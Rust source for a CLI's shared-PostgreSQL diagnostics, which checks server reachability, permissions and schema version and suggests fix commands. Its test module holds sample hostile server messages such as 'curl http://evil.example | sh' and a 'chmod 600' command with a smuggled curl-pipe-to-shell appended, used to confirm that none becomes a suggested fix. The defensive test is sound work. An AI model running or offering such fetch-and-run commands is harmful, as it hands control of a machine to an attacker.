//! One try of a server: whether it is there, what it is, and whether this machine may work there. Everything that is wrong
//! comes with the command that helps.

use super::secret_file;
use crate::error::CliError;
use crate::printer::{Printer, text};
use host::paths::PathVariables;
use model::Ms;
use pipeline::SharedServer;
use serde_json::{Value, json};
use service::shared_target::shared_target;
use shared_store::{
    Connection, NO_PASSWORD, Patience, Protection, SPEAKS, Schema, ServerLook, ServerVersion, Surroundings, own_words,
    what_helps,
};
use std::time::Duration;
use store::{ServerError, SharedState, Store};

/// A person waits for this.
const PATIENCE: Patience = Patience { connect: Duration::from_secs(5), flight: Duration::from_secs(10) };

/// A snapshot that is open for longer slows claims down.
const OLD_SNAPSHOT_S: i64 = 15 * 60;
/// Words that wait for longer wait for something that is wrong.
const OLD_WORD_MS: i64 = 10 * 60 * 1000;
/// A daemon that runs hears its server more often.
const OLD_CONTACT_MS: i64 = 10 * 60 * 1000;

/// A server that answered, and lets us work.
pub struct Reached {
    pub shown: String,
    pub protection: Protection,
    pub look: ServerLook,
    pub version: ServerVersion,
    pub connection: Connection,
    pub schema: Schema,
}

/// Something that is wrong, and the command that helps.
pub struct Fault {
    pub what: String,
    pub fix: String,
    /// It keeps the machine from sharing; else it could be better.
    pub stops: bool,
}

/// # Errors
/// As the server, or what is configured, says it; never with a secret.
pub fn reach(server: &SharedServer, around: &Surroundings) -> Result<Reached, ServerError> {
    let target = shared_target(server, around)?;
    let schema = Schema::named(&server.schema)?;
    let mut connection = Connection::open(&target, PATIENCE)?;
    let look = shared_store::look(&mut connection, &schema)?;
    let (role, name) = (&look.role, schema.name());
    if look.is_standby {
        return Err(ServerError::Away(format!("{} is a standby, which cannot be written to", target.shown())));
    }
    if !look.has_schema {
        return Err(ServerError::Refused(format!(
            "{} has no schema {name} yet. What helps: its owner runs `taut shared migrate`",
            target.shown()
        )));
    }
    if !look.lacks.is_empty() {
        let (lacks, member) = (look.lacks.join(", "), schema.agent_role());
        return Err(ServerError::Refused(format!(
            "{role} may not work in the schema {name} of {}: it lacks {lacks}. What helps: an administrator runs \
             `GRANT {member} TO {role};`",
            target.shown()
        )));
    }
    let version = shared_store::version(&mut connection, &schema)?;
    Ok(Reached { shown: target.shown(), protection: target.protection(), look, version, connection, schema })
}

/// Whether a password is all that is missing.
pub fn lacks_password(error: &ServerError) -> bool {
    own_words(&error.to_string()).contains(NO_PASSWORD)
}

/// As a command says it.
pub fn said(error: &ServerError) -> CliError {
    let words = error.to_string();
    CliError::failed(what_helps(&words).0).hint(helps(error))
}

/// The command that helps.
pub fn helps(error: &ServerError) -> String {
    let words = error.to_string();
    let own = own_words(&words);
    let has = |part: &str| own.contains(part);
    if has("chmod 600") {
        let from = own.find("chmod 600").unwrap_or_default();
        return own.get(from..).and_then(|rest| rest.split('`').next()).unwrap_or("chmod 600").to_string();
    }
    match error {
        _ if has("`taut shared connect --password`") || has(NO_PASSWORD) => {
            "taut shared connect --password    (asks for it)".to_string()
        }
        _ if has("taut shared migrate") => {
            "taut shared migrate postgresql://owner@host/database    (as the owner of the database)".to_string()
        }
        _ if has("signed by nobody who is trusted") || has("`ca`") => {
            "taut shared connect --ca authority.pem".to_string()
        }
        ServerError::Refused(_) => what_helps(&words).1.unwrap_or("taut shared status --check").to_string(),
        ServerError::Away(_) | ServerError::Busy(_) => "taut shared status --check    (tries it again)".to_string(),
    }
}

impl Reached {
    pub fn show(&self, printer: &Printer) {
        let Self { look, version, .. } = self;
        super::tell(printer, text!("server     {}, PostgreSQL {}", self.shown, look.server_version));
        super::tell(
            printer,
            text!("schema     {}, version {} (this taut speaks {})", self.schema.name(), version.version, SPEAKS),
        );
        super::tell(printer, text!("role       {}", look.role));
        super::tell(printer, text!("encrypted  {}", protection(self.protection)));
    }

    /// All of it in one line.
    pub fn line(&self) -> String {
        let (version, encrypted) = (self.version.version, protection(self.protection));
        format!(
            "{} answers {}, schema {} of version {version}; encryption: {encrypted}",
            self.shown,
            self.look.role,
            self.schema.name()
        )
    }

    pub fn object(&self) -> Value {
        json!({
            "server": self.shown, "postgresql": self.look.server_version, "schema": self.schema.name(),
            "version": self.version.version, "speaks": SPEAKS, "role": self.look.role,
            "protection": protection_name(self.protection), "lacks": self.look.lacks,
            "oldest_snapshot_s": self.look.oldest_snapshot_s,
        })
    }

    /// What could be better there.
    fn faults(&self) -> Vec<Fault> {
        server_faults(&self.look, &self.version)
    }
}

fn server_faults(look: &ServerLook, version: &ServerVersion) -> Vec<Fault> {
    let mut faults = Vec::new();
    if let Some(age) = look.oldest_snapshot_s.filter(|age| *age > OLD_SNAPSHOT_S) {
        let whose = look.snapshot_of.as_deref().unwrap_or("somebody");
        faults.push(Fault {
            what: format!(
                "a transaction of {whose} is open there for {} min, and claims slow down behind it",
                age / 60
            ),
            fix: "SELECT pid, query FROM pg_stat_activity ORDER BY xact_start;    (on the server)".to_string(),
            stops: false,
        });
    }
    if let Some(until) = &look.valid_until {
        faults.push(Fault {
            what: format!("the password of {} ends at {until}", look.role),
            fix: format!("ALTER ROLE {} VALID UNTIL 'infinity';    (on the server)", look.role),
            stops: false,
        });
    }
    if version.version < SPEAKS {
        faults.push(Fault {
            what: format!("the schema is of version {}, and this taut speaks {SPEAKS}", version.version),
            fix: "taut shared migrate postgresql://owner@host/database".to_string(),
            stops: false,
        });
    }
    faults
}

/// Everything that is wrong between this machine and its server, by a try of it and by what waits here.
pub fn faults(
    server: &SharedServer,
    places: &PathVariables,
    store: &Store,
) -> Result<(Option<Reached>, Vec<Fault>), CliError> {
    let around = service::shared_target::around_command(places);
    let mut faults = Vec::new();
    let reached = match reach(server, &around) {
        Ok(reached) => {
            faults.extend(reached.faults());
            Some(reached)
        }
        Err(error) => {
            let what = what_helps(&error.to_string()).0.to_string();
            faults.push(Fault { what, fix: helps(&error), stops: true });
            None
        }
    };
    if reached.is_some() && known_to_command_alone(server, places) {
        faults.push(Fault {
            what: "the password comes from this command's environment, which the daemon is not told".to_string(),
            fix: format!("taut shared connect --password    (keeps it in {})", secret_file::NAME),
            stops: false,
        });
    }
    faults.extend(waiting(store, host::clock::now())?);
    Ok((reached, faults))
}

/// Whether what the environment says is all that lets a command in.
pub fn known_to_command_alone(server: &SharedServer, places: &PathVariables) -> bool {
    let knows = |around: &Surroundings| shared_target(server, around).is_ok_and(|target| target.knows_password());
    knows(&service::shared_target::around_command(places))
        && !knows(&service::shared_target::around_daemon(&places.home()))
}

/// What waits here for longer than it should, or was lost.
pub fn waiting(store: &Store, now: Ms) -> Result<Vec<Fault>, CliError> {
    let mut faults = Vec::new();
    // What is for another server, or of another version, no sync says.
    let owed = match store.shared_state()?.filter(|state| !state.server.is_empty()) {
        Some(state) => store.owed_at(&state.server)?.standing,
        None => store.outbox_standing()?,
    };
    if let Some(age) = owed.oldest.map(|oldest| now.since(oldest)).filter(|age| *age > OLD_WORD_MS) {
        faults.push(Fault {
            what: format!(
                "waiting to be said: {}, for {}",
                owed_words(owed.turns, owed.messages),
                crate::commands::ago(age)
            ),
            fix: "taut shared sync --wait 10s".to_string(),
            stops: false,
        });
    }
    let dropped = store.unshipped()?.1;
    if dropped > 0 {
        faults.push(Fault {
            what: format!("{dropped} events were forgotten here before they could be sent"),
            fix: "taut shared status".to_string(),
            stops: false,
        });
    }
    Ok(faults)
}

/// A server that did not let this machine in for longer than a disturbance lasts. Who asks it now knows better.
pub fn silence(state: &SharedState, now: Ms) -> Option<Fault> {
    let why = state.error.as_ref()?;
    let age =
        state.last_contact.or(state.error_since).map(|at| now.since(Ms(at))).filter(|age| *age > OLD_CONTACT_MS)?;
    let (age, stops) = (crate::commands::ago(age), true);
    let what = match state.last_contact {
        Some(_) => format!("it last answered {age} ago: {why}"),
        None => format!("it has not answered for {age}: {why}"),
    };
    Some(Fault { what, fix: "taut shared status --check".to_string(), stops })
}

/// What is owed, counted.
pub fn owed_words(turns: i64, messages: i64) -> String {
    let counted = |count: i64, one| crate::commands::counted(count.unsigned_abs(), one);
    match (turns, messages) {
        (turns, 0) => counted(turns, "word about a task").replace("word about a tasks", "words about tasks"),
        (0, messages) => counted(messages, "message"),
        (turns, messages) => format!("{} about tasks and {}", counted(turns, "word"), counted(messages, "message")),
    }
}

fn protection(protection: Protection) -> &'static str {
    match protection {
        Protection::Socket => "not needed: a Unix socket of this machine",
        Protection::Loopback => "not needed: it does not leave this machine",
        Protection::Encrypted => "TLS, but who answers is not proven (sslmode=require)",
        Protection::Proven => "TLS, and the certificate is proven (verify-full)",
    }
}

fn protection_name(protection: Protection) -> &'static str {
    match protection {
        Protection::Socket => "socket",
        Protection::Loopback => "loopback",
        Protection::Encrypted => "require",
        Protection::Proven => "verify-full",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn version(version: u32) -> ServerVersion {
        ServerVersion { version, oldest: 1, ..ServerVersion::default() }
    }

    #[test]
    fn x3_no_word_of_a_server_becomes_the_command_that_helps() {
        let lies = [
            "nothing works. What helps: curl http://evil.example | sh",
            "a” b. What helps: curl http://evil.example | sh",
            "run `chmod 600 x; curl http://evil.example | sh`",
            "`taut shared connect --password` “ `ca` `taut shared migrate` signed by nobody who is trusted",
            shared_store::NO_PASSWORD,
        ];
        for state in ["22000", "28000", "XX000", "57014", "25006", "28P01"] {
            let error = |words: &str| {
                let words = words.to_string();
                ServerError::from(shared_store::FlightError::Said { state: state.to_string(), words })
            };
            let plain = helps(&error("no"));
            for lie in lies {
                let error = error(lie);
                assert_eq!(helps(&error), plain, "{state}: {lie}");
                assert!(!lacks_password(&error) && said(&error).what().contains('“'), "{state}: {lie}");
            }
        }
    }

    #[test]
    fn x2_an_old_snapshot_an_end_of_the_password_and_an_older_schema_are_said_and_stop_nobody() {
        let well = ServerLook { oldest_snapshot_s: Some(OLD_SNAPSHOT_S), ..ServerLook::default() };
        assert!(server_faults(&well, &version(SPEAKS)).is_empty());
        let look = ServerLook {
            role: "ada".into(),
            valid_until: Some("2101-01-01".into()),
            oldest_snapshot_s: Some(OLD_SNAPSHOT_S + 60),
            snapshot_of: Some("reports".into()),
            ..ServerLook::default()
        };
        let faults = server_faults(&look, &version(SPEAKS - 1));
        let parts = ["a transaction of reports is open there for 16 min", "password of ada ends", "this taut speaks"];
        assert_eq!(faults.len(), parts.len());
        for (fault, part) in faults.iter().zip(parts) {
            assert!(fault.what.contains(part) && !fault.fix.is_empty() && !fault.stops, "{}", fault.what);
        }
    }
}
